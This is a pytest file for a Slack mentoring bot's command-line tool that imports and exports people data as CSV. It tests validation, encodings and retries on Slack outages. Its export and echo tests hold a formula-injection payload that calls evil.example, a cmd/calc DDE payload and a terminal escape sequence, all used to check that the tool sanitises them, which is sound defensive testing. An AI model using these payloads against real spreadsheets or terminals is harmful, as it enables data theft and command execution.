"""CSV import and export from the command line, as an HR admin would run them."""

from __future__ import annotations

import csv

from bot.storage.models import Person
from tests.conftest import bot_env
from tests.flows import GOALS, MENTEE, MENTOR, MENTOR2, offer, pair, proposals_to, request, rows
from tests.test_cli import run_cli

GOOD = """email,department,title,level,manager_email,timezone
dana@example.com,Engineering,Engineer,2,boss@example.com,Europe/Berlin
boss@example.com,Engineering,Head of Engineering,Principal / Manager,,Europe/Berlin
"""
BAD = (
    GOOD
    + """not-an-email,Sales,,9,,Mars/Base
ghost@example.com,Sales,,3,,
"""
)


def env(bot):
    return bot_env(bot.fake, bot.rt.engine.url.render_as_string(hide_password=False))


def test_import_resolves_emails_and_manager_links(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_text(GOOD)
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 0 and "imported 2 people" in result.stdout, result.stderr
    people = {p.user_id: p for p in rows(bot, Person)}
    assert (people[MENTEE].department, people[MENTEE].level, people[MENTEE].manager_user_id) == (
        "Engineering",
        2,
        MENTOR,
    )
    assert people[MENTOR].level == 5 and people[MENTOR].tz == "Europe/Berlin"


def test_bad_rows_are_reported_with_line_numbers_and_nothing_is_imported(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_text(BAD)
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 1
    assert "people.csv:4: 'not-an-email' is not an email address" in result.stderr
    assert "level '9'" in result.stderr and "Mars/Base" in result.stderr
    assert "people.csv:5: no Slack user has the email ghost@example.com" in result.stderr
    assert rows(bot, Person) == []
    skipped = run_cli(["import", "people.csv", "--skip-bad"], env(bot), tmp_path)
    assert skipped.returncode == 0 and "imported 2 people, skipped 2 bad rows" in skipped.stdout
    assert len(rows(bot, Person)) == 2


def test_a_file_without_identity_columns_is_refused(bot, tmp_path):
    (tmp_path / "people.csv").write_text("name,department\nDana,Sales\n")
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 1
    assert "people.csv:1: the header needs an 'email' or a 'slack_id' column" in result.stderr


def test_the_imported_manager_is_never_proposed(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_text(GOOD)
    assert run_cli(["import", "people.csv"], env(bot), tmp_path).returncode == 0
    offer(bot, MENTOR, topics=["Leadership", "Giving and receiving feedback"])  # the best fit, but the manager
    offer(bot, MENTOR2, topics=["Leadership"])
    request(bot)
    assert proposals_to(bot, MENTOR) == [] and len(proposals_to(bot, MENTOR2)) == 1


def test_export_writes_figures_and_pairs_but_no_private_text(bot, tmp_path):
    pair(bot)
    result = run_cli(["export", "--program", "mentoring", "--out", "out.csv"], env(bot), tmp_path)
    assert result.returncode == 0, result.stderr
    content = (tmp_path / "out.csv").read_text()
    table = list(csv.reader(content.splitlines()))
    assert ["program", "Mentoring"] in table
    header = table.index(["mentor", "mentor_id", "mentee", "mentee_id", "started", "ended", "status", "end_reason"])
    [pair_row] = table[header + 1 :]
    assert pair_row[1] == MENTOR and pair_row[3] == MENTEE and pair_row[6] == "active"
    assert GOALS not in content
    missing = run_cli(["export", "--program", "Nope", "--out", "x.csv"], env(bot), tmp_path)
    assert missing.returncode == 2 and "does not exist" in missing.stderr and "Mentoring" in missing.stderr


def people_rows(bot):
    return {p.user_id: p for p in rows(bot, Person)}


def test_utf8_with_a_byte_order_mark_and_excel_unicode_text_are_read(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    text = GOOD.replace("Engineering,Engineer", "Ingeniería,Ingénieure")
    (tmp_path / "bom.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    result = run_cli(["import", "bom.csv"], env(bot), tmp_path)
    assert result.returncode == 0 and "imported 2 people" in result.stdout, result.stderr
    assert people_rows(bot)[MENTEE].department == "Ingeniería"
    # Excel's "Unicode text": UTF-16 with a byte order mark, tab-separated, Windows line ends.
    tabbed = text.replace(",", "\t").replace("Ingeniería", "Ventes Île-de-France").replace("\n", "\r\n")
    (tmp_path / "unicode.txt").write_bytes(tabbed.encode("utf-16"))
    result = run_cli(["import", "unicode.txt"], env(bot), tmp_path)
    assert result.returncode == 0 and "imported 2 people" in result.stdout, result.stderr
    assert people_rows(bot)[MENTEE].department == "Ventes Île-de-France"
    assert people_rows(bot)[MENTEE].manager_user_id == MENTOR


def test_a_file_in_another_encoding_gets_one_line_saying_which_encoding_is_needed(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_bytes(GOOD.replace("Engineer,", "Ingénieur,").encode("latin-1"))
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    [line] = [line for line in result.stderr.splitlines() if line.startswith("people.csv:")]
    assert line.startswith("people.csv:2: this is not UTF-8 text") and "CSV UTF-8" in line and "UTF-16" in line
    assert rows(bot, Person) == []


def test_huge_fields_and_binary_files_give_file_line_reason_not_a_traceback(bot, tmp_path):
    huge = "email,department\nann@example.com,Sales\nbob@example.com," + "x" * 200_000 + "\n"
    (tmp_path / "huge.csv").write_text(huge)
    result = run_cli(["import", "huge.csv", "--skip-bad"], env(bot), tmp_path)
    assert "Traceback" not in result.stderr, result.stderr
    assert "huge.csv:3: this line cannot be read as CSV (field larger than field limit" in result.stderr
    assert rows(bot, Person) == []
    (tmp_path / "photo.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    result = run_cli(["import", "photo.csv"], env(bot), tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "photo.csv:1: this is not UTF-8 text" in result.stderr
    (tmp_path / "nul.csv").write_bytes(b"email,department\nann@example.com,Sa\x00les\n")
    result = run_cli(["import", "nul.csv"], env(bot), tmp_path)
    assert result.returncode == 1 and "nul.csv:2: this looks like a binary file" in result.stderr


def test_values_echoed_back_are_cut_and_cannot_drive_the_terminal(bot, tmp_path):
    (tmp_path / "people.csv").write_text("email,department\n\x1b[2Jevil" + "@" * 500 + ",Sales\n")
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 1 and "\x1b" not in result.stderr and "\\x1b[2J" in result.stderr
    assert max(len(line) for line in result.stderr.splitlines()) < 200


def test_slack_down_during_lookups_is_a_slack_failure_and_imports_nobody(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_text(GOOD)
    bot.fake.fail("users.lookupByEmail", status=200, error="ratelimited", times=1000, retry_after=0)
    for skip in ([], ["--skip-bad"]):
        result = run_cli(["import", "people.csv", *skip], env(bot), tmp_path)
        assert result.returncode != 0, result.stdout
        assert "Traceback" not in result.stderr and "no Slack user" not in result.stderr
        assert "Slack could not look up emails (ratelimited) after 4 tries" in result.stderr
        assert rows(bot, Person) == []
    # Every failed lookup was retried, and the import stopped at the first email Slack never answered.
    assert len(bot.fake.calls_to("users.lookupByEmail")) == 8


def test_a_brief_slack_outage_during_lookups_is_retried(bot, tmp_path):
    bot.fake.emails.update({"dana@example.com": MENTEE, "boss@example.com": MENTOR})
    (tmp_path / "people.csv").write_text(GOOD)
    bot.fake.fail("users.lookupByEmail", status=503, error="service_unavailable", times=3, retry_after=0)
    result = run_cli(["import", "people.csv"], env(bot), tmp_path)
    assert result.returncode == 0 and "imported 2 people" in result.stdout, result.stderr
    assert people_rows(bot)[MENTEE].manager_user_id == MENTOR


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(bot, tmp_path):
    from sqlalchemy import update

    from bot.storage.database import unit_of_work
    from bot.storage.models import Program

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    bot.fake.add_user(MENTEE, name=evil, tz="Europe/Berlin", tz_offset=3600)
    bot.fake.add_user(MENTOR, name="@SUM(1+1)*cmd|' /C calc'!A0")
    offer(bot, MENTOR)
    request(bot)
    [proposal] = proposals_to(bot, MENTOR)
    bot.slack.click_button(proposal, "Accept", MENTOR)
    with unit_of_work(bot.rt.sessions) as s:
        s.execute(update(Program).values(name="+Mentoring"))
    result = run_cli(["export", "--program", "+Mentoring", "--out", "out.csv"], env(bot), tmp_path)
    assert result.returncode == 0, result.stderr
    table = list(csv.reader((tmp_path / "out.csv").read_text().splitlines()))
    cells = [cell for row in table for cell in row]
    assert "'" + evil in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'+Mentoring" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]


def test_inert_cells_keep_plain_numbers_and_quote_the_rest():
    from bot.reporting.export import inert

    assert [inert(v) for v in ("-12", "-3.5", "12%", "-", "-1+2", "\tx", "\r=1", "Dana", "", None, 7)] == [
        "-12",
        "-3.5",
        "12%",
        "'-",
        "'-1+2",
        "'\tx",
        "'\r=1",
        "Dana",
        "",
        "",
        "7",
    ]
